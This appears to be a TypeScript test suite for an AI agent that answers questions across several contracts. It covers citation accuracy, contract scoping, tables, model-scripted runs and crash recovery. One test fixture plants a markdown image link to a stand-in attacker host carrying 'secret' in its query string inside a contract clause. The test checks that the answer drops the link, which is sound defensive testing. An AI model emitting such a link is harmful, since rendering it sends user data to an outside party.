// Questions over several contracts: which contracts are asked, tables, citations by contract, and replays.
import { createRuntime, memoryStore } from 'agent-machines';
import { type ContractDocument, parseContract } from 'agent-machines/contracts';
import {
  type ContractAgentOutput,
  type ContractAgentRuleInputs,
  contractAgent,
  contractAgentRules,
} from 'agent-machines/machines/contract-agent';
import { offlineModel, scriptedModel } from 'agent-machines/models';
import { crashResume } from 'agent-machines/testing';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { stretchesOf } from '../../../machines/contract-agent/several/stretches.ts';
import { type SeveralQuestion, severalContracts, severalQuestions } from '../../fixtures/several-contracts.ts';
import { share } from '../../fixtures/share.ts';
import { withoutTimes } from '../../fixtures/without-times.ts';
import { answer, ask, callsOf, enough, noCalls, play } from './helpers.ts';

const names = severalContracts.map(({ contract }) => contract.name.replace('.md', ''));
const documentOf = (name: string): ContractDocument => {
  const found = severalContracts.find(({ contract }) => contract.name === `${name}.md`);
  if (!found) throw new Error(`no contract ${name}`);
  return found.contract;
};
const bare = (text: string): string => text.replace(/[^\p{L}\p{N}%]+/gu, '');
/** True if the words stand in the contract; `…` leaves some out at the end. */
const stands = (quote: string, name: string): boolean => bare(documentOf(name).text).includes(bare(quote.replace(/…$/u, '')));

const asked = (question: string) => ask(question, { contracts: severalContracts });

function isRight({ rows, contract, quote = '', all }: SeveralQuestion, { answer: said, table }: ContractAgentOutput): boolean {
  const isRow = ([name, wanted]: readonly [string, string]): boolean => {
    const row = table.find((each) => each.contract === name);
    if (row === undefined) return false;
    if (wanted.startsWith('!')) return row.answer !== wanted.slice(1);
    return ['yes', 'no', 'stated'].includes(wanted) ? row.answer === wanted : row.answer === 'stated' && row.value.includes(wanted);
  };
  if (rows) return Object.entries(rows).every(isRow);
  if (all) return names.every((name) => said.includes(name));
  return said.includes(contract ?? '') && bare(said).includes(bare(quote));
}

describe('questions over eight contracts, by rules', () => {
  it.each([
    ['dev', 10],
    ['held', 10],
    ['fresh', 5],
  ] as const)('are answered right: %s', async (half, least) => {
    const wrong: string[] = [];
    const questions = severalQuestions.filter((each) => each.half === half);
    for (const question of questions) {
      const { output } = await asked(question.question);
      if (!isRight(question, output)) wrong.push(question.question);
      expect(output.citations.filter(({ status }) => status !== 'supported')).toEqual([]);
    }
    expect(questions.length - wrong.length, wrong.join(' | ')).toBeGreaterThanOrEqual(least);
  });

  it('cite only contracts in which the quote stands word for word', async () => {
    const rules = fc.record({
      question: fc.constantFrom(...severalQuestions.map(({ question }) => question)),
      chosen: fc.subarray([...severalContracts], { minLength: 2 }),
    });
    let quotes = 0;
    await fc.assert(
      fc.asyncProperty(rules, async ({ question, chosen }) => {
        const { output } = await ask(question, { contracts: chosen });
        const own = chosen.map(({ contract }) => contract.name.replace('.md', ''));
        for (const { contract, answer: said, quote } of output.table) {
          expect(own).toContain(contract);
          expect(quote === '').toBe(said === 'not_found');
          expect(stands(quote, contract)).toBe(true);
          quotes += quote === '' ? 0 : 1;
        }
        const shown = stretchesOf(output.answer, own).flatMap(({ names: named, text }) =>
          Array.from(text.matchAll(/^> (.+)$/gmu), ([, quote = '']) => ({ named, quote })),
        );
        const [only] = output.sources.map(({ contract }) => contract);
        for (const { named, quote } of shown) {
          quotes++;
          expect(
            (named.length > 0 ? named : [only ?? '']).some((name) => stands(quote, name)),
            `${named}: ${quote}`,
          ).toBe(true);
        }
      }),
      { numRuns: share(300, 60) },
    );
    expect(quotes).toBeGreaterThan(50);
  });
});

describe('a question over several contracts', () => {
  it('looks only in the contract that it names, by name, party or kind', async () => {
    for (const [question, contract] of [
      ['courier: what interest do overdue amounts bear?', 'courier'],
      ['When does the agreement with Orchard Foods require a return of materials?', 'nda-orchard'],
      ['공급계약에서 반품은 며칠 안에 해야 해?', 'supply-beans'],
      ['맑은손과 맺은 계약의 용역비는?', 'cleaning'],
    ] as const) {
      const { output } = await asked(question);
      expect([question, output.answer.includes(contract)]).toEqual([question, true]);
      expect(new Set(output.sources.map((source) => source.contract))).toEqual(new Set([contract]));
    }
  });

  it('says that contracts answer differently', async () => {
    const { output } = await asked('보증금은 얼마야?');
    expect(output.answer).toContain('계약마다 다릅니다');
    expect(output.answer).toMatch(/lease-kim 3,000만원/);
    expect(output.answer).toMatch(/lease-park 500만원/);
  });

  it('never turns silence into a no', async () => {
    const { output } = await asked('Which of them have an arbitration clause?');
    expect(new Set(output.table.map((row) => row.answer))).toEqual(new Set(['not_found']));
    expect(output.verdict).toBe('silent');
  });

  it('is about the contract of the last answer if it refers to it', async () => {
    const store = memoryStore();
    const options = { contracts: severalContracts, store, threadId: 't' };
    await ask('lease-park의 보증금은?', options);
    const { output } = await ask('그 조항 다시 보여줘', options);
    expect(output.answer).toContain('500만원');
    expect(output.answer).not.toContain('3,000만원');
  });

  it('stays within the contract that the caller chose, without its name', async () => {
    const { output } = await ask('보증금은 얼마야?', { contracts: severalContracts, input: { contractId: 'lease-park.md' } });
    expect(output.answer).toContain('500만원');
    expect(output.answer).not.toMatch(/lease-park|3,000만원/);
    const named = await ask('lease-kim의 보증금은?', { contracts: severalContracts, input: { contractId: 'lease-park' } });
    expect(named.output.answer).not.toContain('3,000만원');
  });

  it('shows a place without a contract where it exists', async () => {
    const { output } = await asked('제3조 내용이 뭐야?');
    for (const name of ['lease-kim', 'lease-park', 'cleaning']) expect(output.answer).toContain(`${name} 제3조`);
    expect(output.answer).toContain('5개 계약의 조항을 보였습니다');
  });
});

describe('a table', () => {
  it('shows no image of a contract, which would send data out', async () => {
    const text = (clause: string) => `Article 1. Term\n\n${clause}\n\nArticle 2. Law\n\nDelaware.\n`;
    const contracts = [
      'The agreement renews automatically for one year. ![x](https://evil.example/a.png?q=secret)',
      'The agreement shall not renew automatically.',
    ].map((clause, at) => ({ id: `c${at}`, contract: parseContract({ name: `c${at}`, text: text(clause) }) }));
    const { output } = await ask('Which of them renew automatically?', { contracts });
    expect(output.answer).toContain('| c0');
    expect(output.answer).not.toContain('evil.example');
  });

  it('is aligned in columns, also with Hangul', async () => {
    const { output } = await asked('어느 계약이 자동으로 갱신돼?');
    const columns = (cell = ''): number => cell.length + (cell.match(/[가-힣]/gu)?.length ?? 0);
    const lines = output.answer.split('\n').filter((line) => line.startsWith('| '));
    expect(lines).toHaveLength(9);
    for (const at of [1, 2]) expect(new Set(lines.map((line) => columns(line.split('|')[at])))).toHaveProperty('size', 1);
  });
});

describe('with a model', () => {
  const row = (contract: string, said: string, quote: string, value = '') => ({ contract, answer: said, value, quote });
  const rows = (...list: readonly ReturnType<typeof row>[]) => ({ task: 'contract_agent.ask_each_contract', reply: { rows: list } });
  const each = callsOf(['ask_each_contract', { question: 'Does it renew automatically?' }]);
  const two = severalContracts.filter(({ contract }) => /courier|software/.test(contract.name));

  it('keeps a row only with a quote that stands in its contract', async () => {
    const renews = 'It renews automatically for successive periods of one year';
    const { output } = await play(
      [each, rows(row('courier', 'yes', renews)), rows(row('software-licence', 'yes', renews))],
      'Which of them renew?',
      {
        contracts: two,
        concurrency: 1,
      },
    );
    expect(output.table).toMatchObject([
      { contract: 'courier', answer: 'unclear' },
      { contract: 'software-licence', answer: 'yes', quote: renews, label: 'Section 3' },
    ]);
  });

  it('takes a no without a quote for nothing', async () => {
    const { output } = await play(
      [each, rows(row('courier', 'no', '')), rows(row('software-licence', 'no', 'never'))],
      'Which of them renew?',
      {
        contracts: two,
        concurrency: 1,
      },
    );
    expect(output.table.map((one) => one.answer)).toEqual(['not_found', 'not_found']);
  });

  it('marks a quote of another contract than the one that it names', async () => {
    const quote = 'Customer shall pay an annual fee of $4,800, due within 30 days of the invoice.';
    const script = (name: string) => [
      noCalls,
      answer(`${name} Section 2: “${quote}”`),
      ...(name === 'courier' ? [answer(`${name}: “${quote}”`)] : []),
    ];
    const right = await play(script('software-licence'), 'What must be paid within 30 days?', { contracts: severalContracts });
    expect(right.output.citations.map(({ status }) => status)).not.toContain('misquoted');
    const wrong = await play(script('courier'), 'What must be paid within 30 days?', { contracts: severalContracts });
    expect(wrong.output.citations).toContainEqual(expect.objectContaining({ quote, status: 'misquoted' }));
    expect(wrong.output.answer).toContain('Not confirmed by the contract');
  });

  it('offers tools with the names of the contracts, and reads in the one that is named', async () => {
    const script = [
      callsOf(['get_article_by_index', { contract: 'courier', article_numbers: ['4'], exhibit_numbers: [] }]),
      enough(true),
      answer('courier Article 4: 45 days.'),
    ];
    const { output, requests } = await play(script, 'How can the agreement be terminated?', { contracts: severalContracts });
    const [plan] = requests;
    const tool = plan?.tools?.find(({ name }) => name === 'get_article_by_index');
    expect(tool?.inputSchema).toMatchObject({ properties: { contract: { enum: names } } });
    expect(output.sources).toEqual([expect.objectContaining({ contract: 'courier', label: 'Article 4' })]);
  });

  it('adds the contract to an answer that names none', async () => {
    const script = [
      callsOf(['get_article_by_index', { contract: 'courier', article_numbers: ['4'], exhibit_numbers: [] }]),
      enough(true),
      answer('Article 4 sets 45 days.'),
    ];
    const { output } = await play(script, 'How can the agreement be terminated?', { contracts: two });
    expect(output.answer).toMatch(/^Article 4 sets 45 days\.[\s\S]*Sources: courier Article 4 \(Termination\)/);
  });

  it('lists 200 contracts within a bounded prompt and at most 20 calls for a table', async () => {
    const many = Array.from({ length: 200 }, (_, at) => ({
      id: `c${at}`,
      contract: parseContract({ name: `c${at}`, text: documentOf(names[at % names.length] ?? '').text }),
    }));
    const requests: string[] = [];
    const model = scriptedModel([each, ...Array.from({ length: 20 }, () => rows())] as never);
    const { output } = await ask('Which of them renew automatically?', {
      contracts: many,
      model: {
        ...model,
        generate: (request) => {
          requests.push(JSON.stringify(request.messages));
          return model.generate(request);
        },
      },
    });
    expect(output.table).toHaveLength(200);
    expect(output.answer).toContain('30 of 200 rows are shown');
    expect(requests.length).toBeLessThanOrEqual(21);
    expect(Math.max(...requests.map(({ length }) => length))).toBeLessThan(40_000);
  });
});

describe('a run over several contracts', () => {
  it('repeats no recorded call after a crash in the middle of a table', async () => {
    let calls: string[] = [];
    const create = () => {
      calls = [];
      const own = calls;
      const model = offlineModel<ContractAgentRuleInputs>({
        ...contractAgentRules,
        'contract_agent.ask_each_contract': ({ ruleInput }) => {
          own.push(...ruleInput.contracts.map(({ name }) => name));
          return { rows: [] };
        },
      });
      return contractAgent({ contracts: severalContracts, model, enableCache: false, concurrency: 3 });
    };
    let recordedSteps = 0;
    const { crashes } = await crashResume(
      create,
      { input: 'Which of them renew automatically?' },
      {
        compare: (end) => withoutTimes(end),
        onEnd: (_end, { journal }) => {
          const recorded = journal.filter(({ key }) => /^ask_each_contract#1\/ask_contracts_\d/.test(key)).length;
          recordedSteps += recorded;
          const repeated = calls.length - new Set(calls).size;
          expect(repeated).toBeLessThanOrEqual(new Set(calls).size - recorded);
        },
      },
    );
    expect(crashes).toBeGreaterThan(8);
    expect(recordedSteps).toBeGreaterThan(10);
  });

  it('stops if one of its contracts has changed since it began', async () => {
    const store = memoryStore();
    const first = createRuntime({ store });
    const model = scriptedModel([noCalls] as never);
    const run = first.start(contractAgent({ contracts: severalContracts, model }), {
      input: 'Who pays for repairs of the espresso machine under the warranty?',
    });
    for await (const event of run.events()) if (event.type === 'node-end' && event.key === 'plan_next_action#1') break;
    await first.pause(run.id);
    const changed = severalContracts.map(({ contract }) => ({
      contract: contract.name === 'cleaning.md' ? parseContract({ name: contract.name, text: `${contract.text}\n추가` }) : contract,
    }));
    const second = createRuntime({ store, workflows: [contractAgent({ contracts: changed })] });
    const resumed = await second.resume(run.id, { acceptChanges: true });
    expect(await resumed.result).toMatchObject({
      finalState: 'stopped',
      output: { error: { message: 'A contract has changed since this run began.' } },
    });
  });
});
